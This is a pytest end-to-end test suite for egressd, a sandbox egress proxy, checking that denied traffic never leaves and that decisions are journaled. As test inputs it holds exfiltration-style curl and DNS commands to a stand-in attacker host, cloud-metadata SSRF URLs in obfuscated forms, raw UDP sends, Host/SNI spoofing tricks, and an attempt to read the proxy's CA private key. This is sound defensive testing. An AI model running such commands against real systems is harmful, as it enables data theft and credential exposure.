"""`egressd run`: real clients in a sandbox whose only way out is egressd."""

from __future__ import annotations

import datetime as dt
import json
import shutil

import pytest
from jsonschema import Draft202012Validator

from egressd.journal.schema import schema
from egressd.lab.stand import Stand

pytestmark = pytest.mark.e2e
BOTH_WAYS = True

TRACEPARENT = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"


def sh(text: str) -> list[str]:
    return ["sh", "-c", text]


@pytest.mark.parametrize(
    ("command", "status"),
    [
        pytest.param(["true"], 0, id="true"),
        pytest.param(["sh", "-c", "exit 7"], 7, id="a status of its own"),
        pytest.param(["/no/such/program"], 127, id="not found"),
        pytest.param(["/etc/passwd"], 126, id="not executable"),
        pytest.param(["sh", "-c", "kill -TERM $$"], 143, id="ended by a signal"),
    ],
)
def test_the_commands_status_is_ours(stand: Stand, command: list[str], status: int) -> None:
    assert stand.run(command).returncode == status


def test_a_profile_that_only_observes_starts_too_and_lets_an_unnamed_host_pass(stand: Stand) -> None:
    """The start is proved by a name that is denied; where names are only observed, few are."""
    until = dt.datetime.now(dt.UTC).date() + dt.timedelta(days=20)
    observing = stand.profile.read_text().replace(
        "owner:", f"mode: observe\nobserve_until: {until}\nowner:", 1
    )
    stand.profile.write_text(observing)
    ran = stand.run(sh("curl -sS -o page -w '%{http_code}' https://www.example.com/n"))
    assert (ran.stdout, ran.stderr) == ("200", "")
    noted = [(r["would_deny"], r["would_reason"]) for r in stand.attempts() if r["layer"] == "request"]
    assert noted == [(True, "not_allowed")]


def test_output_passes_and_stdout_is_the_commands_alone(stand: Stand) -> None:
    ran = stand.run(sh("echo out; echo err >&2"))
    assert (ran.stdout, ran.stderr) == ("out\n", "err\n")


def test_what_a_rule_allows_arrives(stand: Stand) -> None:
    ran = stand.run(sh("curl -sS https://api.lab-origin.com/n"))
    assert (ran.stdout, ran.stderr) == ("1", "")
    seen = stand.lab.requests(host="api.lab-origin.com")
    assert [(request.method, request.path) for request in seen] == [("GET", "/n")]


def test_the_records_of_one_request_join_by_their_root(stand: Stand) -> None:
    stand.run(sh("curl -sS -4 https://api.lab-origin.com/n?key=secret-value"))
    attempts = stand.attempts()
    assert [(r["layer"], r["verdict"], r["reason"]) for r in attempts] == [
        ("dns", "allow", "rule"),
        ("connection", "allow", "rule"),
        ("request", "allow", "rule"),
    ]
    assert len({record["root_id"] for record in attempts}) == 1
    assert attempts[2]["rule"] == "api"
    assert attempts[2]["place"].startswith("profiles/lab.yaml:")
    assert "secret-value" not in stand.journal.read_text()
    ends = [r for r in stand.records(event="end") if r["attempt_id"] in {a["attempt_id"] for a in attempts}]
    assert {end["layer"] for end in ends} == {"connection", "request"}


DENIALS = [
    pytest.param("https://evil-lab.com/", "not_allowed", 403, id="a name no rule allows"),
    pytest.param("http://evil-lab.com/", "not_allowed", 403, id="the same in clear"),
    pytest.param("https://pastebin.com/", "denied_by", 403, id="a name that a rule denies"),
    pytest.param("http://169.254.169.254/latest/meta-data/", "floor_metadata", 403, id="META-01 metadata"),
    pytest.param("http://2852039166/latest/", "floor_metadata", 403, id="IP-01 metadata in decimal"),
    pytest.param("http://[::ffff:169.254.169.254]/", "floor_metadata", 403, id="IP-05 metadata v4-mapped"),
    pytest.param("http://[fd00:ec2::254]/", "floor_metadata", 403, id="META-02 metadata over IPv6"),
    pytest.param("http://168.63.129.16/", "floor_metadata", 403, id="META-06 WireServer"),
    pytest.param("http://11.6.6.6/", "ip_literal", 403, id="IP-15 a bare address"),
    pytest.param("http://10.0.0.1/", "ip_literal", 403, id="a private address"),
    pytest.param("https://registry.npmjs.org/closed", "path_not_allowed", 403, id="another path"),
    pytest.param("http://api.lab-origin.com/", "scheme_not_allowed", 403, id="another scheme"),
    pytest.param("https://api.lab-origin.com:8443/", "port_not_allowed", 403, id="another port"),
    pytest.param(
        "https://private.lab-origin.com/", "special_address", 403, id="IP-12 a name that leads inside"
    ),
    pytest.param(
        "https://loopback.lab-origin.com/", "floor_loopback", 403, id="IP-12 a name that leads to loopback"
    ),
    pytest.param(
        "https://metadata.lab-origin.com/", "floor_metadata", 403, id="a name that leads to metadata"
    ),
    pytest.param("https://expired.lab-origin.com/", "upstream_tls", 502, id="TLS-13 expired"),
    pytest.param("https://self-signed.lab-origin.com/", "upstream_tls", 502, id="TLS-13 self-signed"),
    pytest.param("https://wrong-name.lab-origin.com/", "upstream_tls", 502, id="TLS-13 wrong name"),
    pytest.param("https://refused.lab-origin.com/", "upstream_unreachable", 502, id="refused"),
    pytest.param("https://servfail.lab-origin.com/", "upstream_dns", 502, id="DNS-28 no answer"),
]


@pytest.mark.parametrize(("url", "reason", "code"), DENIALS)
def test_a_denial_teaches_and_nothing_leaves(stand: Stand, url: str, reason: str, code: int) -> None:
    ran = stand.run(sh(f"curl -gsS -m 20 -w '%{{http_code}}' '{url}'"))
    assert ran.stdout.endswith(str(code)), ran
    assert f"(reason {reason}" in ran.stdout
    assert stand.lab.attacker_hits() == []
    assert stand.lab.metadata_hits() == []
    assert stand.lab.requests() == []
    assert [r for r in stand.records(layer="request") if r["reason"].startswith(reason)], stand.records()
    assert stand.lab.packets_lost() == 0


def test_denied_names_are_never_asked_upstream(stand: Stand) -> None:
    stand.run(sh("getent hosts secret123.evil-lab.com; curl -sS https://secret456.evil-lab.com/ >/dev/null"))
    assert stand.lab.dns_queries() == []


def test_other_resolvers_are_ours_too(stand: Stand) -> None:
    ran = stand.run(
        sh("dig +short +time=2 +tries=1 @8.8.8.8 evil-lab.com; dig +short +tcp @11.6.6.6 api.lab-origin.com")
    )
    assert ran.stdout.split()[0] == "198.18.0.2"
    assert ran.stdout.split()[1].startswith("198.18.1.")
    assert stand.lab.dns_queries() == []
    assert stand.lab.attacker_hits() == []


@pytest.mark.parametrize(
    ("command", "protocol", "reason"),
    [
        pytest.param("ping -c 1 -W 2 11.6.6.6", "icmp", "protocol_not_allowed", id="NET-05 ping"),
        pytest.param(
            "ping -6 -c 1 -W 2 2600:6:6::6", "icmpv6", "protocol_not_allowed", id="NET-05 ping over IPv6"
        ),
        pytest.param(
            "echo x | timeout 2 bash -c 'cat >/dev/udp/11.6.6.6/443'",
            "udp",
            "protocol_not_allowed",
            id="NET-04 QUIC's port",
        ),
        pytest.param(
            "echo x | timeout 2 bash -c 'cat >/dev/udp/169.254.169.254/123'",
            "udp",
            "floor_metadata",
            id="metadata over UDP",
        ),
    ],
)
def test_packets_that_are_no_tcp_are_refused_at_once_and_recorded(
    stand: Stand, command: str, protocol: str, reason: str
) -> None:
    stand.run(["bash", "-c", command])
    packets = [record for record in stand.attempts() if record["layer"] == "packet"]
    assert {(record["protocol"], record["reason"]) for record in packets} == {(protocol, reason)}
    assert stand.lab.attacker_hits() == []
    assert stand.records(event="lost") == []


def test_real_tools_work_inside(stand: Stand) -> None:
    ran = stand.run(
        sh(
            "set -e; git clone -q https://github.com/acme/tools; ls tools >/dev/null; "
            "/usr/bin/python3 -m pip -q install --no-input --target pkgs lab-hello 2>&1; ls pkgs"
        ),
        env={"PIP_CONFIG_FILE": "/dev/null"},
        flags=["--env", "PIP_CONFIG_FILE"],
    )
    assert ran.returncode == 0, ran
    assert "lab_hello" in ran.stdout


def test_clients_that_know_only_the_systems_store_trust_us(stand: Stand) -> None:
    url = "https://api.lab-origin.com/n"
    bare = "env -i PATH=$PATH"
    ran = stand.run(
        sh(
            f"{bare} curl -sS {url}; {bare} /usr/bin/python3 -c "
            f"'import urllib.request as u; print(u.urlopen(\"{url}\").read().decode())'; "
            "openssl verify -CApath /etc/ssl/certs /run/egressd-trust/ca.crt; touch /etc/ssl/certs/x"
        )
    )
    assert ran.stdout == "11\n/run/egressd-trust/ca.crt: OK\n", ran
    assert "Read-only" in ran.stderr


def test_a_push_and_another_owners_repository_are_refused_readably(stand: Stand) -> None:
    ran = stand.run(sh("git clone -q https://github.com/other/private"))
    assert ran.returncode == 128
    assert "egressd: denied" in ran.stderr
    assert stand.lab.requests(host="github.com") == []


def test_the_command_sees_nothing_of_ours_and_has_no_power(stand: Stand) -> None:
    script = (
        f"cat {stand.config} {stand.directory}/ca/ca.key {stand.rules}/organisation.yaml {stand.journal} 2>&1 | sort -u;"
        "grep -c : /proc/net/dev; grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status;"
        "unshare -Ur true 2>&1; env | grep -ci proxy"
    )
    ran = stand.run(sh(script))
    assert "PRIVATE KEY" not in ran.stdout
    assert "schema:" not in ran.stdout
    assert "\n1\n" in ran.stdout, "more network devices than lo"
    assert "CapEff:\t0000000000000000" in ran.stdout
    assert "NoNewPrivs:\t1" in ran.stdout
    assert "Seccomp:\t2" in ran.stdout


def test_an_explicit_proxy_is_there_for_tools_that_want_one(stand: Stand) -> None:
    ran = stand.run(
        sh(
            "curl -sS -x http://127.0.0.1:3128 https://api.lab-origin.com/n;"
            "curl -sS -x http://127.0.0.1:3128 http://www.lab-origin.com/n;"
            "curl -sS -x http://127.0.0.1:3128 https://evil-lab.com/ | head -1"
        )
    )
    assert ran.stdout.startswith("11egressd: denied: no rule"), ran


def test_a_tunnel_is_judged_by_its_hello_and_stays_opaque(stand: Stand) -> None:
    ran = stand.run(
        sh(f"curl -sS --cacert {stand.workspace}/lab.crt https://api.anthropic.com/n"),
    )
    assert ran.returncode != 0
    shutil.copy(stand.lab.ca_file, stand.workspace / "lab.crt")
    ran = stand.run(sh("curl -sS --capath /nonexistent --cacert lab.crt https://api.anthropic.com/n"))
    assert ran.stdout == "1", ran
    assert [(r["treatment"], r["rule"]) for r in stand.attempts() if r["layer"] == "connection"] == [
        ("tunnel", "pinned")
    ]
    end = stand.records(event="end", layer="connection")[-1]
    assert end["bytes_up"] > 300
    assert end["bytes_down"] > 300


def test_the_names_must_agree(stand: Stand) -> None:
    script = (
        "curl -sS -o /dev/null -w '%{http_code} ' https://api.lab-origin.com/n -H 'Host: evil-lab.com';"
        "curl -sS -o /dev/null -w '%{http_code} ' http://www.lab-origin.com/n -H 'Host: evil-lab.com';"
        "curl -sS --connect-to evil-lab.com:443:api.lab-origin.com:443 https://evil-lab.com/ 2>&1; "
        "curl -sS --resolve api.lab-origin.com:443:11.6.6.6 https://api.lab-origin.com/ 2>&1"
    )
    ran = stand.run(sh(script))
    assert ran.stdout.startswith("403 403 "), ran
    reasons = [r["reason"] for r in stand.attempts() if r["verdict"] == "deny"]
    assert [reason for reason in reasons if reason != "not_allowed"] == [
        "authority_mismatch",
        "authority_mismatch",
        "sni_mismatch",
        "ip_literal",
        "ip_literal",
    ]
    assert stand.lab.attacker_hits() == []
    assert stand.lab.requests() == []


def test_every_record_of_a_run_fits_the_schema_and_its_chain_holds(stand: Stand) -> None:
    script = (
        "curl -sS -o /dev/null https://api.lab-origin.com/n; curl -sS https://evil-lab.com/; getent hosts pastebin.com;"
        "curl -sS http://169.254.169.254/; curl -sS -X DELETE https://api.lab-origin.com/n; ping -c1 -W1 192.0.2.1"
    )
    for _ in range(2):  # the second goes on where the first ended
        stand.run(
            sh(f"exec >/dev/null 2>&1; {script}"), flags=["--label", "task=7", "--traceparent", TRACEPARENT]
        )
    validator = Draft202012Validator(schema())
    records = [json.loads(line) for line in stand.journal.read_text().splitlines()]
    for record in records:
        validator.validate(record)
    assert {record["alert"] for record in stand.records(event="alert")} == {"metadata"}
    assert {r["layer"] for r in records if r["event"] == "decision"} == {
        "dns",
        "connection",
        "request",
        "packet",
    }
    own = [r for r in records if r["event"] in {"decision", "end", "sandbox"}]
    assert {(r["labels"]["task"], r["traceparent"]) for r in own} == {("7", TRACEPARENT)}
    verified = stand.lab.host_exec(
        stand.egressd("log", "verify", "--json"), privileged=not stand.lab.rootless
    )
    told = json.loads(verified.stdout)
    assert (told["findings"], told["notes"], told["lines"]) == ([], [], len(records))
    assert (told["first"], told["last"], told["signed_to"]) == (1, len(records), len(records))
